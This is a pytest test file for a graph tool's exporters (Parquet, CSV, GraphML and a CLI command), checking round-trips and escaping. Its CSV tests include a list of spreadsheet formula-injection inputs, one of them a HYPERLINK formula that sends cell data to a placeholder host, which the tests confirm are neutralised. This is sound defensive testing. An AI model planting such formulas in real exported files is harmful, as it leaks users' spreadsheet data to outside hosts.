"""Exports: what is written is read back with other people's readers and must be the same."""

from __future__ import annotations

import csv
import json
from io import StringIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import networkx as nx
import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from ptmgraph.graph.current import BuiltGraph, current_graph
from ptmgraph.graph.export.graphml import write_graphml, write_networkx_graphml
from ptmgraph.graph.export.spreadsheet import write_csv_rows
from ptmgraph.graph.export.tables import graph_tables, lineage_tables, write_csv, write_parquet
from ptmgraph.graph.export.to_networkx import tables_to_networkx, to_networkx
from ptmgraph.graph.schema import LINEAGE, TABLES, Type
from ptmgraph.graph.store.arcade.store import ArcadeStore
from ptmgraph.graph.store.result import Result
from ptmgraph.graph.tables.merge import merged_schema
from ptmgraph.terminal.cli import cli
from ptmgraph.views.downloads import to_csv
from tests.helpers.graph_fixture import ODD_IDS, fixture_home


@pytest.fixture(scope="module")
def graph() -> BuiltGraph:
    return current_graph(fixture_home())


def test_the_whole_graph_has_every_node_and_relationship(graph: BuiltGraph) -> None:
    rows: dict[str, int] = {}
    for name, table in graph_tables(graph.tables).items():
        rel = TABLES[name].rel
        kind = rel.name if rel else name
        rows[kind] = rows.get(kind, 0) + table.count_rows()
    assert rows == {name: n for name, n in graph.manifest["counts"].items() if n}


def test_parquet_round_trip(graph: BuiltGraph, tmp_path: Path) -> None:
    tables = graph_tables(graph.tables)
    write_parquet(tables, tmp_path)
    assert {file.stem for file in tmp_path.iterdir()} == set(tables)
    for name, table in tables.items():
        assert pq.read_table(tmp_path / f"{name}.parquet").equals(table.to_table())


def test_csv_round_trip(graph: BuiltGraph, tmp_path: Path) -> None:
    tables = graph_tables(graph.tables)
    write_csv(tables, tmp_path)
    for name, table in tables.items():
        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as stream:
            header, *lines = csv.reader(stream)
        assert header == table.schema.names
        expected = [[_csv_text(v) for v in row.values()] for row in table.to_table().to_pylist()]
        assert lines == expected


def _csv_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, float):
        return f"{value:g}"
    return json.dumps(value, ensure_ascii=False) if isinstance(value, list) else str(value)


HARMLESS = ["a/b", "", "1=1", "a-b", " =1", "'=1", "#x", "[1]"]
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "=1+1",
    "+1",
    "-1+2",
    "@sum(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
]


def test_csv_has_no_text_that_a_spreadsheet_calculates(tmp_path: Path) -> None:
    texts = HARMLESS + FORMULAS
    schema = merged_schema(TABLES["Model"])
    rows = [{"id": text, "downloads": -1, "tags": [text]} for text in texts]
    tables = {"Model": ds.dataset(pa.Table.from_pylist(rows, schema=schema))}
    for raw in (False, True):
        write_csv(tables, tmp_path / str(raw), raw=raw)
        with (tmp_path / str(raw) / "Model.csv").open(encoding="utf-8", newline="") as stream:
            read = list(csv.DictReader(stream))
        mark = "" if raw else "'"
        assert [row["id"] for row in read] == HARMLESS + [mark + text for text in FORMULAS]
        assert {row["downloads"] for row in read} == {"-1"}
        assert [json.loads(row["tags"]) for row in read] == [[text] for text in texts]


def test_rows_as_csv_have_none_either() -> None:
    texts = HARMLESS + FORMULAS
    rows = [{"=col": text, "n": -1.5, "none": None, "list": ["=1"]} for text in texts]
    for raw, mark in ((False, "'"), (True, "")):
        out = StringIO(newline="")
        write_csv_rows(Result(tuple(rows[0]), rows), out, raw)
        header, *lines = csv.reader(StringIO(out.getvalue(), newline=""))
        assert header == [f"{mark}=col", "n", "none", "list"]
        assert [line[0] for line in lines] == HARMLESS + [mark + text for text in FORMULAS]
        assert {tuple(line[1:]) for line in lines} == {("-1.5", "", '["=1"]')}
    assert list(csv.reader(StringIO(to_csv(Result(("x",), [{"x": "=1"}]))))) == [["x"], ["'=1"]]


def test_csv_tells_empty_text_from_nothing(graph: BuiltGraph, tmp_path: Path) -> None:
    write_csv(graph_tables(graph.tables), tmp_path)
    text = (tmp_path / "Model.csv").read_text("utf-8")
    (line,) = [line for line in text.splitlines() if line.startswith('"values/empty"')]
    task, library = [TABLES["Model"].columns[i].name for i in (11, 12)]
    assert (task, library) == ("task", "library")
    assert line.split(",")[11:13] == ['""', ""]


def test_graphml_round_trip(graph: BuiltGraph, tmp_path: Path) -> None:
    tables = graph_tables(graph.tables)
    write_graphml(tables, tmp_path / "graph.graphml")
    read = nx.read_graphml(tmp_path / "graph.graphml", force_multigraph=True)
    meant = tables_to_networkx(tables)
    assert dict(read.nodes(data=True)) == {
        key: _texts(rest | {"label": id, "type": label})
        for key, data in meant.nodes(data=True)
        for id, label, rest in [_parts(data)]
    }
    for *_, data in meant.edges(data=True):
        data["label"] = data["type"]
    assert _edges(read) == _edges(meant)


def _parts(data: dict[str, Any]) -> tuple[str, str, dict[str, Any]]:
    """The id, the label and the other attributes of a node."""
    rest = dict(data)
    return rest.pop("id"), rest.pop("label"), rest


def test_graphml_is_as_other_tools_show_and_tell_apart(tmp_path: Path) -> None:
    """Gephi shows the key `label`, and takes edges with one id for one; igraph puts the ids of the
    XML under `id`, so no key may have that name."""
    tables = graph_tables(current_graph(fixture_home()).tables)
    write_graphml(tables, tmp_path / "graph.graphml")
    root = ElementTree.parse(tmp_path / "graph.graphml").getroot()
    space = {"g": "http://graphml.graphdrawing.org/xmlns"}
    keys = [key.attrib for key in root.findall("g:key", space)]
    assert "id" not in {key["attr.name"] for key in keys}
    assert len({key["id"] for key in keys}) == len(keys)
    shown = {
        node.attrib["id"]: {data.attrib["key"]: data.text for data in node}
        for node in root.iterfind("g:graph/g:node", space)
    }
    for key, data in shown.items():
        assert f"{data['node.type']}:{data['node.label']}" == key
    edges = root.findall("g:graph/g:edge", space)
    assert len({edge.attrib["id"] for edge in edges}) == len(edges)
    ends = [(edge.attrib["source"], edge.attrib["target"]) for edge in edges]
    assert len(set(ends)) < len(ends)  # parallel edges, each with its type
    assert {end for pair in ends for end in pair} <= set(shown)
    for edge in edges:
        held = {data.attrib["key"]: data.text for data in edge}
        assert held["edge.label"] == held["edge.type"]


def _texts(data: dict[str, Any]) -> dict[str, Any]:
    """Attributes as GraphML holds them: lists as JSON."""
    return {
        name: json.dumps(value, ensure_ascii=False) if isinstance(value, list) else value
        for name, value in data.items()
    }


def _edges(graph: Any) -> list[str]:
    edges = graph.edges(data=True)
    return sorted(repr((start, end, sorted(_texts(data).items()))) for start, end, data in edges)


def test_graphml_replaces_what_xml_cannot_hold(tmp_path: Path) -> None:
    graph = to_networkx([{"child": "a\x00\x0b", "parent": "<b>&\r\n", "relation": "]]>", "n": 1}])
    write_networkx_graphml(graph, tmp_path / "odd.graphml")
    read = nx.read_graphml(tmp_path / "odd.graphml", force_multigraph=True)
    assert list(read.edges(data=True)) == [
        ("a\ufffd\ufffd", "<b>&\r\n", {"type": "]]>", "label": "]]>", "n": 1})
    ]


def test_graphml_of_rows_keeps_types_and_mixes_as_text(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [
        {"child": "a", "parent": "b", "flag": True, "mixed": 1, "share": 0.5, "gone": None},
        {"child": "b", "parent": "c", "flag": False, "mixed": "x", "share": 2.0, "gone": None},
    ]
    write_networkx_graphml(to_networkx(rows), tmp_path / "rows.graphml")
    read = nx.read_graphml(tmp_path / "rows.graphml", force_multigraph=True)
    first, second = read.edges(data=True)
    assert first[2] == {"flag": True, "mixed": "1", "share": 0.5}
    assert second[2] == {"flag": False, "mixed": "x", "share": 2.0}


def test_rows_become_edges_and_lonely_ends_nodes() -> None:
    rows: list[dict[str, Any]] = [
        {"child": "a", "relation": "FINETUNED_FROM", "parent": "b", "declared": True, "x": None},
        {"child": "a", "relation": "MERGED_FROM", "parent": "b", "declared": False},
        {"child": "lonely", "relation": None, "parent": None},
    ]
    graph = to_networkx(rows)
    assert set(graph) == {"a", "b", "lonely"}
    assert list(graph.edges(keys=True, data=True)) == [
        ("a", "b", "FINETUNED_FROM", {"declared": True}),
        ("a", "b", "MERGED_FROM", {"declared": False}),
    ]


def test_rows_without_ends_are_refused_with_the_reason() -> None:
    with pytest.raises(ValueError, match="need the columns child and parent"):
        to_networkx([{"id": "a"}])


def test_lineage_tables_are_the_graph_between_the_models(
    store: ArcadeStore, graph: BuiltGraph
) -> None:
    models = ["cycle/a", "cycle/b", "cycle/c", "self/loop", "disagree/child", "disagree/one"]
    tables = lineage_tables(store, models)
    whole = graph_tables(graph.tables)
    names = {f"Model-{name}-Model" for name in LINEAGE} | {"Model"}
    for name in names & set(whole):
        ends = ["id"] if name == "Model" else ["start_id", "end_id"]
        expected = [
            row
            for row in whole[name].to_table().to_pylist()
            if all(row[end] in models for end in ends)
        ]
        found = tables[name].to_table().to_pylist() if name in tables else []
        assert found == expected, name
    assert tables["Model-FINETUNED_FROM-Model"].count_rows() == 5


def test_a_lineage_of_more_models_than_one_question_takes(store: ArcadeStore) -> None:
    nothing = [f"no/model-{n}" for n in range(1_500)]
    tables = lineage_tables(store, [*nothing, *ODD_IDS])
    assert tables["Model"].count_rows() == len(ODD_IDS)
    assert tables["Model-FINETUNED_FROM-Model"].count_rows() == len(ODD_IDS) - 1


def test_list_columns_are_those_of_the_schema(graph: BuiltGraph) -> None:
    """CSV and GraphML write every list of strings as JSON; other nested types would need more."""
    for name, table in graph_tables(graph.tables).items():
        declared = TABLES[name]
        columns = declared.rel.graph_properties if declared.rel else declared.columns
        lists = {c.name for c in columns if c.type is Type.STRINGS}
        assert {f.name for f in table.schema if f.type.num_fields} == lists
        assert isinstance(table, ds.Dataset)


def run_export(*arguments: str) -> Any:
    environment = {"PTMGRAPH_HOME": str(fixture_home()), "PTMGRAPH_STORE": ""}
    return CliRunner(env=environment).invoke(cli, ["export", *arguments])


def test_the_command_writes_the_whole_graph(graph: BuiltGraph, tmp_path: Path) -> None:
    assert run_export("parquet", str(tmp_path / "tables")).exit_code == 0
    assert (
        pq.read_metadata(tmp_path / "tables" / "Model.parquet").num_rows
        == (graph.manifest["counts"]["Model"])
    )
    assert run_export("neo4j-import", "--output", str(tmp_path / "import")).exit_code == 0
    assert (tmp_path / "import" / "import.sh").exists()


def test_the_command_writes_a_lineage(graph: BuiltGraph, tmp_path: Path) -> None:
    file = tmp_path / "cycle.graphml"
    assert run_export("graphml", str(file), "--of", "cycle/below", "--depth", "1").exit_code == 0
    read = nx.read_graphml(file, force_multigraph=True)
    assert set(read) == {"Model:cycle/below", "Model:cycle/a"}
    assert [data["type"] for *_, data in read.edges(data=True)] == ["FINETUNED_FROM"]


@pytest.mark.parametrize(
    ("arguments", "code", "reason"),
    [
        (["csv"], 2, "Say once where to write"),
        (["csv", "one", "--output", "two"], 2, "Say once where to write"),
        (["csv", "{full}"], 2, "is there already"),
        (["csv", "{full}/file/below"], 2, "cannot be written"),
        (["graphml", "x.graphml", "--of", "no/such-model"], 1, "There is no model"),
        (["svg", "x"], 2, "not one of"),
    ],
)
def test_the_command_says_what_is_wrong(
    graph: BuiltGraph, tmp_path: Path, arguments: list[str], code: int, reason: str
) -> None:
    (tmp_path / "file").write_text("not empty", "utf-8")
    result = run_export(*[argument.format(full=tmp_path) for argument in arguments])
    assert (result.exit_code, reason in result.output) == (code, True), result.output
